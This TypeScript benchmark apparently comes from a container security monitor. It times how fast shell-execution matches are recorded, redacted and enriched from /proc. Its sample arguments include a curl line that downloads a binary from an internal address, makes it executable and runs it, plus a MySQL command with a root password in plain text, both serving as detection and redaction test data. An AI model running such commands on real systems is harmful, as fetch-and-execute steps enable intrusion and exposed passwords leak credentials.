/** What a record of a match costs: making it, secrets and all, and what is asked of /proc for it; and what is held back, or matches nothing. */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { ExecCounter } from '../../exporter/events/exec-counter.ts';
import { EventBook } from '../../exporter/evidence/event-book.ts';
import { redactArguments } from '../../exporter/evidence/redaction/arguments.ts';
import { remembering, rememberingList } from '../../exporter/evidence/redaction/clean-texts.ts';
import { redact } from '../../exporter/evidence/redaction/redact.ts';
import { loadRules } from '../../exporter/rules/load.ts';
import { RuleSet } from '../../exporter/rules/rule-set.ts';
import { processNow } from '../../exporter/trace/descent/process-now.ts';
import { table } from '../bench/table.ts';
import type { Surroundings } from './surroundings.ts';

const TIMES = 20_000;
const ROUNDS = 5;

const ARGUMENTS = [
  ['sh', '-c', 'test -f /tmp/healthy && echo ok'],
  ['/bin/sh', '/docker-entrypoint.sh', 'nginx', '-g', 'daemon off;'],
  ['sh', '-c', 'curl -fsS http://10.0.0.9/x -o /tmp/x && chmod +x /tmp/x && /tmp/x'],
  ['bash', '-lc', 'mysql -u root -pTr0ub4dor3 -h db -e "select 1"'],
];

interface Cost {
  readonly what: string;
  readonly cpuMicros: number;
}

/** The least CPU time of some rounds: others disturb, and never help. */
function measure(what: string, times: number, run: (i: number) => void): Cost {
  const rounds = Array.from({ length: ROUNDS }, () => {
    const from = process.cpuUsage();
    for (let i = 0; i < times; i++) run(i);
    const { user, system } = process.cpuUsage(from);
    return (user + system) / times;
  });
  return { what, cpuMicros: Math.min(...rounds) };
}

export async function benchEvents({ say }: Surroundings) {
  const rules = new RuleSet(await loadRules(undefined));
  const [rule] = rules.named('exec', ['shell_in_container']);
  if (rule === undefined) throw new Error('there is no rule shell_in_container');
  let bytes = 0;
  const style = {
    node: 'node-1',
    redact: remembering(redact),
    redactArguments: rememberingList(redactArguments),
    withArguments: true,
    imageOf: () => 'shop/web:1.2.3',
  };
  const newBook = () =>
    new EventBook(style, (_, line) => {
      bytes += line.length;
    });
  let pods = 0;
  const again = (i: number) => ARGUMENTS[i % ARGUMENTS.length] ?? [];
  const everNew = (i: number) => [...again(i), `--number=${i}`];
  const note = (book: EventBook, pod: string, i: number, argumentsOf = again) =>
    book.note<'exec'>({
      rule,
      owner: { namespace: 'shop', pod, container: 'web' },
      event: {
        path: '/bin/sh',
        name: 'sh',
        in_container: true,
        cgroup: '/kubepods.slice/kubepods-burstable.slice/cri-containerd-0123456789abcdef.scope',
        container: 'web',
        pod_namespace: 'shop',
        pod,
        args: argumentsOf(i),
        started_by: 'container',
        parent_path: '/usr/sbin/nginx',
        parent_name: 'nginx',
        uid: 33n,
        tty: false,
        cwd: '/srv',
      },
      more: { pid: i, parent_pid: 1 },
      time: book.wallTime.moment(),
    });
  let book = newBook();
  const writing = (argumentsOf: (i: number) => string[]) => (i: number) => {
    // A hundred in each pod have room.
    if (i % 100 === 0) pods += 1;
    if (i % 100_000 === 0) {
      book.close();
      book = newBook();
    }
    note(book, `web-${pods}`, i, argumentsOf);
  };
  const written = measure('a record that is written', TIMES, writing(again));
  const writtenNew = measure('the same, of arguments never seen before', TIMES, writing(everNew));
  const flooded = newBook();
  const heldBack = measure('a match that is held back', TIMES, (i) => note(flooded, 'web-0', i));
  const counter = new ExecCounter();
  const owner = { namespace: 'shop', pod: 'web-0', container: 'web' };
  const where = { cgroup: '/x', owner };
  const none = measure('an exec that matches nothing', 10 * TIMES, () =>
    counter.add(rules, { path: '/bin/true' }, where),
  );
  const child = spawn('sleep', ['60'], { stdio: 'ignore' });
  await once(child, 'spawn');
  const facts = measure('what /proc is asked for a record', TIMES / 10, () =>
    processNow('/proc', child.pid ?? 0, '/bin/sleep', 0),
  );
  child.kill('SIGKILL');
  book.close();
  flooded.close();
  const costs = [written, writtenNew, heldBack, none, facts];
  say(table(costs.map(({ what, cpuMicros }) => ({ what, 'CPU µs': cpuMicros }))));
  const perRecord = bytes / (2 * ROUNDS * TIMES);
  say(`A record has ${perRecord.toFixed(0)} characters.\n`);
  return { costs, charactersPerRecord: perRecord };
}
